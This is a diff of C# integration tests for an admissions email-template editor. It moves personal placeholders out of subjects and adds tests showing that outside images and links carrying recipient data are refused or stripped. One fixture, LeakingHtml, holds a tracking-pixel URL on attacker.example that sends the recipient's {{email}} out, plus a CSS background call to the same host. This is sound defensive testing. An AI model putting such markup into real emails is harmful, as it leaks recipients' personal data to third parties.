@@ -20,13 +20,13 @@ public class EmailSequenceEditingTests(LeadApp app) : IClassFixture<LeadApp>
         using var editor = await app.LoginAsAsync(StaffRoles.Editor);
         var id = await TemplateIdAsync(EmailSequenceSeed.Confirmation, null);
         var list = await editor.GetAsync("/admin/content/email-templates");
-        Assert.Contains("We received your MS-ITL request, {{first_name}}", list.Text);
+        Assert.Contains("We received your MS-ITL request", list.Text);
         var form = await editor.GetAsync($"/admin/content/email-templates/edit/{id}");
         Assert.Contains("{{first_name}}", form.Document.QuerySelector(".placeholders")!.TextContent);
 
         var saved = await editor.SubmitAsync(form, fields:
         [
-            ("Input.Wording.Subject", "Thanks for asking, {{first_name}}: your MS-ITL next steps"),
+            ("Input.Wording.Subject", "Thanks for asking: your MS-ITL next steps for {{start_term}}"),
             ("Input.Wording.HtmlBody", "<p>Dear {{first_name}},</p>\n<p>An advisor will call you about <strong>{{start_term}}</strong>.</p>"),
             ("Input.Wording.TextBody", "Dear {{first_name}},\n\nAn advisor will call you about {{start_term}}.\n"),
         ]);
@@ -37,7 +37,7 @@ public class EmailSequenceEditingTests(LeadApp app) : IClassFixture<LeadApp>
         using (await app.SubmitLeadAsync(lead)) { }
         await app.RunEmailSenderAsync();
         var email = Assert.Single(app.Smtp.To("reworded@example.com")).Message;
-        Assert.Equal("Thanks for asking, Ada: your MS-ITL next steps", email.Subject);
+        Assert.Equal($"Thanks for asking: your MS-ITL next steps for {lead["Input.StartTerm"]}", email.Subject);
         Assert.StartsWith($"Dear Ada,\n\nAn advisor will call you about {lead["Input.StartTerm"]}.", email.TextBody!.ReplaceLineEndings("\n"));
         Assert.Contains($"<p>An advisor will call you about <strong>{lead["Input.StartTerm"]}</strong>.</p>", email.HtmlBody);
         Assert.DoesNotContain("We received your MS-ITL request", email.HtmlBody);
@@ -107,9 +107,75 @@ public class EmailSequenceEditingTests(LeadApp app) : IClassFixture<LeadApp>
         }
 
         await using var db = app.NewDbContext();
-        Assert.Equal("{{first_name}}, IS or IT: how to choose", (await db.EmailTemplates.SingleAsync(t => t.Id == id)).Subject);
+        Assert.Equal("IS or IT: how to choose", (await db.EmailTemplates.SingleAsync(t => t.Id == id)).Subject);
         Assert.Equal(TimeSpan.FromDays(2), (await db.SequenceSteps.SingleAsync(s => s.Id == step)).Delay);
         Assert.False(await db.ContentChanges.AnyAsync(c => c.ContentType == "email-templates" && c.ItemId == id));
+    }
+
+    private const string LeakingHtml =
+        "<p>Hi {{first_name}}</p><img src=\"https://attacker.example/p.gif?e={{email}}\" alt=\"\">"
+        + "<p><a href=\"https://www.sandiego.edu/?who={{email}}\">More</a></p>"
+        + "<p style=\"background-image:url(https://attacker.example/bg.gif)\">Styled</p>"
+        + "<p><img src=\"http://localhost/logo.png\" alt=\"USD\"> <a href=\"{{unsubscribe_url}}\">Stop these emails</a></p>";
+
+    [Fact]
+    public async Task An_editor_cannot_save_a_template_that_sends_a_persons_details_to_another_site_or_in_the_subject()
+    {
+        using var editor = await app.LoginAsAsync(StaffRoles.Editor);
+        var id = await TemplateIdAsync(EmailSequenceSeed.FirstFollowUp, TrackInterest.Undecided);
+
+        var refused = await editor.SubmitAsync(await editor.GetAsync($"/admin/content/email-templates/edit/{id}"), fields:
+        [
+            ("Input.Wording.Subject", "{{first_name}}, we received your request"),
+            ("Input.Wording.HtmlBody", LeakingHtml),
+        ]);
+
+        Assert.Equal(HttpStatusCode.OK, refused.Status);
+        Assert.Contains("{{first_name}} is what the person typed, and a subject never carries that", refused.FieldError("Input.Wording.Subject"));
+        var html = refused.FieldError("Input.Wording.HtmlBody");
+        Assert.Contains("the image “https://attacker.example/p.gif?e={{email}}” (images come only from localhost", html);
+        Assert.Contains("the placeholder {{email}} in the href attribute of <a> (placeholders fill in text only", html);
+        Assert.Contains("the address in the style of <p>", html);
+        Assert.DoesNotContain("logo.png", html);
+        Assert.DoesNotContain("unsubscribe_url}} in the", html);
+        Assert.Equal("IS or IT: how to choose", await SubjectAsync(id));
+    }
+
+    [Fact]
+    public async Task A_template_put_in_the_database_behind_the_editor_s_back_sends_no_outside_image_and_no_details_in_attributes()
+    {
+        var confirmation = await app.StepIdAsync(EmailSequenceSeed.Confirmation);
+        await using (var db = app.NewDbContext())
+        {
+            db.EmailTemplates.Add(new EmailTemplate
+            {
+                StepId = confirmation, Track = TrackInterest.Undecided,
+                Subject = "Hello {{first_name}} from {{country}}", HtmlBody = LeakingHtml, TextBody = "Hi {{first_name}}",
+            });
+            await db.SaveChangesAsync();
+        }
+
+        try
+        {
+            using (await app.SubmitLeadAsync(app.ValidForm("leak.target@example.com", track: "Undecided"))) { }
+            await app.RunEmailSenderAsync();
+        }
+        finally
+        {
+            await using var db = app.NewDbContext();
+            await db.EmailTemplates.Where(t => t.StepId == confirmation && t.Track == TrackInterest.Undecided).ExecuteDeleteAsync();
+        }
+
+        var email = Assert.Single(app.Smtp.To("leak.target@example.com")).Message;
+        Assert.Equal("Hello from United States", email.Subject);
+        var sent = new AngleSharp.Html.Parser.HtmlParser().ParseDocument(email.HtmlBody!);
+        Assert.Contains("Hi Ada", sent.Body!.TextContent);
+        Assert.DoesNotContain("attacker.example", email.HtmlBody);
+        Assert.Equal(["http://localhost/logo.png"], sent.Images.Select(i => i.GetAttribute("src")));
+        var attributes = sent.All.SelectMany(e => e.Attributes).Select(a => Uri.UnescapeDataString(a.Value)).ToList();
+        Assert.DoesNotContain(attributes, value => value.Contains("leak.target", StringComparison.OrdinalIgnoreCase));
+        Assert.Contains(attributes, value => value.StartsWith("http://localhost/unsubscribe?token="));
+        Assert.Contains("More", sent.Body.TextContent);
     }
 
     [Fact]
@@ -118,7 +184,7 @@ public class EmailSequenceEditingTests(LeadApp app) : IClassFixture<LeadApp>
         using var editor = await app.LoginAsAsync(StaffRoles.Editor);
         var id = await TemplateIdAsync(EmailSequenceSeed.AdmissionsNotice, null);
         var form = await editor.GetAsync($"/admin/content/email-templates/edit/{id}");
-        Assert.StartsWith("New MS-ITL inquiry: Maria Santos (Information Systems (IS), ", form.Document.QuerySelector(".preview-subject")!.TextContent);
+        Assert.Matches(@"^New MS-ITL inquiry, lead \d+ \(Information Systems \(IS\), ", form.Document.QuerySelector(".preview-subject")!.TextContent);
 
         var preview = await editor.ClickAsync(form, "button[formaction*='handler=Preview']",
             ("Input.Wording.HtmlBody", "<p>Wrote: <em>{{message}}</em></p><p><a href=\"https://www.sandiego.edu/\">USD</a></p>"),
@@ -155,19 +221,19 @@ public class EmailSequenceEditingTests(LeadApp app) : IClassFixture<LeadApp>
         var aliceForm = await alice.GetAsync($"/admin/content/email-templates/edit/{id}");
         var bobForm = await bob.GetAsync($"/admin/content/email-templates/edit/{id}");
 
-        await alice.SubmitAsync(aliceForm, fields: [("Input.Wording.Subject", "{{first_name}}, the road to IT leadership")]);
-        var refused = await bob.SubmitAsync(bobForm, fields: [("Input.Wording.Subject", "{{first_name}}, lead the IT team")]);
+        await alice.SubmitAsync(aliceForm, fields: [("Input.Wording.Subject", "{{start_term}}: the road to IT leadership")]);
+        var refused = await bob.SubmitAsync(bobForm, fields: [("Input.Wording.Subject", "{{start_term}}: lead the IT team")]);
 
         Assert.Contains("Not saved: someone else saved this follow-up email template after you opened it", refused.Text);
         var conflict = refused.Document.QuerySelector(".conflict")!.TextContent;
         Assert.Contains("the road to IT leadership", conflict);
         Assert.Contains("lead the IT team", conflict);
-        Assert.Equal("{{first_name}}, lead the IT team", refused.Document.QuerySelector("input[name='Input.Wording.Subject']")!.GetAttribute("value"));
-        Assert.Equal("{{first_name}}, the road to IT leadership", await SubjectAsync(id));
+        Assert.Equal("{{start_term}}: lead the IT team", refused.Document.QuerySelector("input[name='Input.Wording.Subject']")!.GetAttribute("value"));
+        Assert.Equal("{{start_term}}: the road to IT leadership", await SubjectAsync(id));
 
         var saved = await bob.SubmitAsync(refused);
         Assert.Contains("Saved the follow-up email template", saved.Text);
-        Assert.Equal("{{first_name}}, lead the IT team", await SubjectAsync(id));
+        Assert.Equal("{{start_term}}: lead the IT team", await SubjectAsync(id));
     }
 
     [Fact]
@@ -176,7 +242,7 @@ public class EmailSequenceEditingTests(LeadApp app) : IClassFixture<LeadApp>
         using var editor = await app.LoginAsAsync(StaffRoles.Editor);
         var id = await TemplateIdAsync(EmailSequenceSeed.SecondFollowUp, TrackInterest.IS);
         await editor.SubmitAsync(await editor.GetAsync($"/admin/content/email-templates/edit/{id}"),
-            fields: [("Input.Wording.Subject", "Your IS plans, {{first_name}}")]);
+            fields: [("Input.Wording.Subject", "Your IS plans for {{start_term}}")]);
         await editor.SubmitAsync(await editor.GetAsync($"/admin/content/email-templates/edit/{id}"),
             fields: [("Input.Wording.Subject", "A typo'd subjcet")]);
 
@@ -192,7 +258,7 @@ public class EmailSequenceEditingTests(LeadApp app) : IClassFixture<LeadApp>
 
         Assert.Contains("Restored the version saved", restored.Text);
         Assert.Contains("Emails not yet sent use it from now on.", restored.Text);
-        Assert.Equal("Your IS plans, {{first_name}}", await SubjectAsync(id));
+        Assert.Equal("Your IS plans for {{start_term}}", await SubjectAsync(id));
         await using (var db = app.NewDbContext())
         {
             var actions = await db.ContentChanges.Where(c => c.ContentType == "email-templates" && c.ItemId == id)
@@ -200,10 +266,11 @@ public class EmailSequenceEditingTests(LeadApp app) : IClassFixture<LeadApp>
             Assert.Equal([ChangeAction.Updated, ChangeAction.Updated, ChangeAction.Restored], actions);
         }
 
-        using (await app.SubmitLeadAsync(app.ValidForm("restored@example.com", track: "IS"))) { }
+        var restoredLead = app.ValidForm("restored@example.com", track: "IS");
+        using (await app.SubmitLeadAsync(restoredLead)) { }
         app.Clock.Advance(TimeSpan.FromDays(11));
         await app.RunEmailSenderAsync();
-        Assert.Contains(app.Smtp.To("restored@example.com"), m => m.Message.Subject == "Your IS plans, Ada");
+        Assert.Contains(app.Smtp.To("restored@example.com"), m => m.Message.Subject == $"Your IS plans for {restoredLead["Input.StartTerm"]}");
     }
 
     [Fact]
@@ -213,7 +280,7 @@ public class EmailSequenceEditingTests(LeadApp app) : IClassFixture<LeadApp>
         var created = await editor.SubmitAsync(await editor.GetAsync("/admin/content/email-steps/edit"), fields:
         [
             ("Input.Name", "Third follow-up, two weeks later"), ("Input.Audience", "Lead"), ("Input.DelayDays", "14"),
-            ("Input.FirstWording.Subject", "{{first_name}}, applications for {{start_term}} are open"),
+            ("Input.FirstWording.Subject", "Applications for {{start_term}} are open"),
             ("Input.FirstWording.HtmlBody", "<p>Hello {{first_name}},</p><p>Applications are open.</p>"),
             ("Input.FirstWording.TextBody", "Hello {{first_name}},\n\nApplications are open.\n"),
         ]);
@@ -224,7 +291,7 @@ public class EmailSequenceEditingTests(LeadApp app) : IClassFixture<LeadApp>
         using (await app.SubmitLeadAsync(lead)) { }
         app.Clock.Advance(TimeSpan.FromDays(13));
         await app.RunEmailSenderAsync();
-        var subject = $"Ada, applications for {lead["Input.StartTerm"]} are open";
+        var subject = $"Applications for {lead["Input.StartTerm"]} are open";
         Assert.DoesNotContain(app.Smtp.To("two-weeks@example.com"), m => m.Message.Subject == subject);
         app.Clock.Advance(TimeSpan.FromDays(1));
         await app.RunEmailSenderAsync();
@@ -290,7 +357,7 @@ public class EmailSequenceEditingTests(LeadApp app) : IClassFixture<LeadApp>
         Assert.Contains("already has a template for Information Technology (IT). Edit that one instead.", duplicate.FieldError("Input.Track"));
 
         await editor.SubmitAsync(add, fields:
-            [("Input.Track", ""), ("Input.Wording.Subject", "{{first_name}}, a note from MS-ITL"), ("Input.Wording.HtmlBody", "<p>Hello</p>"), ("Input.Wording.TextBody", "Hello")]);
+            [("Input.Track", ""), ("Input.Wording.Subject", "A note from MS-ITL about {{track}}"), ("Input.Wording.HtmlBody", "<p>Hello</p>"), ("Input.Wording.TextBody", "Hello")]);
         var confirm = await editor.GetAsync($"/admin/content/email-templates/{isTemplate}/delete");
         var deleted = await editor.SubmitAsync(confirm);
         Assert.Contains("Deleted the follow-up email template", deleted.Text);
@@ -298,7 +365,7 @@ public class EmailSequenceEditingTests(LeadApp app) : IClassFixture<LeadApp>
         using (await app.SubmitLeadAsync(app.ValidForm("fallback@example.com", track: "IS"))) { }
         app.Clock.Advance(TimeSpan.FromDays(2) + TimeSpan.FromHours(1));
         await app.RunEmailSenderAsync();
-        Assert.Contains(app.Smtp.To("fallback@example.com"), m => m.Message.Subject == "Ada, a note from MS-ITL");
+        Assert.Contains(app.Smtp.To("fallback@example.com"), m => m.Message.Subject == "A note from MS-ITL about Information Systems (IS)");
     }
 
     [Fact]
@@ -309,10 +376,10 @@ public class EmailSequenceEditingTests(LeadApp app) : IClassFixture<LeadApp>
         var add = await editor.GetAsync($"/admin/content/email-templates/edit?step={step}");
         (string, string?)[] wording(string subject) =>
             [("Input.Wording.Subject", subject), ("Input.Wording.HtmlBody", "<p>{{full_name}}</p>"), ("Input.Wording.TextBody", "{{full_name}}")];
-        await editor.SubmitAsync(add, fields: [("Input.Track", "IS"), .. wording("IS lead: {{full_name}}")]);
+        await editor.SubmitAsync(add, fields: [("Input.Track", "IS"), .. wording("IS lead {{lead_id}}")]);
         var id = await TemplateIdAsync(EmailSequenceSeed.AdmissionsNotice, TrackInterest.IS);
         await editor.SubmitAsync(await editor.GetAsync($"/admin/content/email-templates/edit/{id}"), fields: [("Input.Track", "IT")]);
-        await editor.SubmitAsync(add, fields: [("Input.Track", "IS"), .. wording("Another IS lead: {{full_name}}")]);
+        await editor.SubmitAsync(add, fields: [("Input.Track", "IS"), .. wording("Another IS lead {{lead_id}}")]);
 
         var history = await editor.GetAsync($"/admin/content/email-templates/{id}/history");
         var refused = await editor.SubmitAsync(await editor.ClickLinkAsync(history, "ol.history > li:nth-child(2) a.restore"));
